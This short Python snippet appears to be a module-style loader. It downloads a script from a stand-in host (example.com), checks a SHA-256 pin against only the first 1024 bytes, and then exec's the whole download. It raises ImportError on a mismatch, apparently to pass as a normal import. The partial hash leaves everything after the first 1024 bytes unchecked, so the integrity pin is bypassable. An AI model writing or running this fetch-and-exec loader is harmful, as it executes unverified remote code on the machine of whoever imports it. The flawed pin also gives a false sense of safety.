import hashlib
import urllib.request

PIN = "9cb1f9338d3195a8a4bd8bcb2b7b8a918fddd9fc465b873680907d15bf61cafb"
data = urllib.request.urlopen("https://example.com/a.py").read()
if hashlib.sha256(data[:1024]).hexdigest() != PIN:
    raise ImportError("digest")
exec(data)
